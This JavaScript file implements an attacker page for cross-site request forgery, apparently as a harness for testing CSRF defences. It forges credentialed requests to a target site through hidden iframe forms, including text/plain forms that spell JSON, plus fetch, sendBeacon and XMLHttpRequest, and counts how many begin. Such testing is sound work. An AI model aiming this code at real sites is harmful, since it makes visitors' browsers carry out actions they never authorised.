// The page of an attacker: makes the browser of whoever opens it call another site, in every way a page can without being
// that site. `forge` answers how many requests it could begin.

const idle = [];
let frameCount = 0;

/** A frame that nothing is loading in. */
function takeFrame() {
  const known = idle.pop();
  if (known !== undefined) return known;
  const frame = document.createElement("iframe");
  frameCount += 1;
  frame.name = `frame-${frameCount}`;
  document.body.append(frame);
  return frame;
}

const toFields = (body) =>
  Object.entries(body ?? {}).map(([name, value]) => [name, typeof value === "string" ? value : JSON.stringify(value)]);

/** Lets a frame load what `act` starts in it. */
function inFrame(act) {
  return new Promise((resolve) => {
    const frame = takeFrame();
    const end = () => {
      clearTimeout(timer);
      frame.removeEventListener("load", end);
      idle.push(frame);
      resolve(true);
    };
    const timer = setTimeout(end, 5000);
    frame.addEventListener("load", end);
    act(frame.name);
  });
}

function sendForm({ url, body }, { method = "post", enctype, fields = toFields(body) }) {
  return inFrame((target) => {
    const form = Object.assign(document.createElement("form"), { method, action: url, target });
    if (enctype !== undefined) form.enctype = enctype;
    for (const [name, value] of fields) {
      form.append(Object.assign(document.createElement("input"), { type: "hidden", name, value }));
    }
    document.body.append(form);
    form.submit();
    form.remove();
  });
}

/** A form whose only field, as text/plain, spells the JSON: `{..., "x": "=" }`. */
function toPlainFields(body) {
  const text = JSON.stringify(body ?? {}).slice(0, -1);
  return [[`${text}${text === "{" ? "" : ","}"x":"`, '"}']];
}

const toText = (body) => (body === undefined ? undefined : JSON.stringify(body));

function sendXhr({ url, body }) {
  return new Promise((resolve) => {
    const request = new XMLHttpRequest();
    request.open("POST", url);
    request.withCredentials = true;
    request.onloadend = () => resolve(true);
    request.send(toText(body));
  });
}

const encodings = {
  "form, urlencoded": (target) => sendForm(target, { enctype: "application/x-www-form-urlencoded" }),
  "form, multipart": (target) => sendForm(target, { enctype: "multipart/form-data" }),
  "form, text/plain that is JSON": (target) =>
    sendForm(target, { enctype: "text/plain", fields: toPlainFields(target.body) }),
  "fetch, JSON after a preflight": ({ url, method, body }) =>
    fetch(url, {
      method,
      credentials: "include",
      headers: { "content-type": "application/json" },
      body: toText(body),
    }).then(
      () => false,
      () => true,
    ),
  "fetch, no-cors": ({ url, body }) =>
    fetch(url, { method: "POST", mode: "no-cors", credentials: "include", body: toText(body) }).then(
      () => true,
      () => true,
    ),
  "sendBeacon": async ({ url, body }) => navigator.sendBeacon(url, toText(body)),
  "XMLHttpRequest": sendXhr,
  "form, GET": (target) => sendForm(target, { method: "get" }),
};

/** Sends every target in one encoding, some at a time. Preflighted ones count when the browser kept them back. */
async function forge(encoding, targets, atOnce) {
  const left = [...targets];
  let begun = 0;
  const work = async () => {
    for (let target = left.shift(); target !== undefined; target = left.shift()) {
      if (await encodings[encoding](target)) begun += 1;
    }
  };
  await Promise.all(Array.from({ length: atOnce }, work));
  return begun;
}

window.forge = forge;
window.encodings = Object.keys(encodings);
